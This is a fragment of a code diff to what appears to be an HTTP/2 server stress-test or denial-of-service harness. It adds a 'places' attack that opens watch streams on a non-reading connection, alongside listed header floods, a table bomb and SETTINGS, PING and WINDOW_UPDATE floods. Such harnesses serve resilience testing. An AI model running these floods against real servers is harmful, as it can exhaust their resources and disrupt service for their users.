@@ -65,6 +65,12 @@ def watches():
     yield from streams(WATCH, 4000)
 
 
+def places():
+    """All calls that a connection may have, watching, on a connection that reads nothing."""
+    yield frame(SETTINGS, ACK, 0)
+    yield from streams(WATCH, 8)
+
+
 def big_headers():
     """1 MB each, and the server's SETTINGS never acknowledged."""
     for number in range(400):
@@ -109,7 +115,7 @@ def flood(one):
 
 
 ATTACKS = {
-    "reflection": reflection, "watches": watches, "big_headers": big_headers, "empty_fields": empty_fields,
+    "reflection": reflection, "watches": watches, "places": places, "big_headers": big_headers, "empty_fields": empty_fields,
     "long_string": long_string, "table_bomb": table_bomb, "unfinished": unfinished, "resets": resets,
     "settings": lambda: flood(frame(SETTINGS, 0, 0)), "pings": lambda: flood(frame(PING, 0, 0, b"12345678")),
     "windows": lambda: flood(frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\1")),
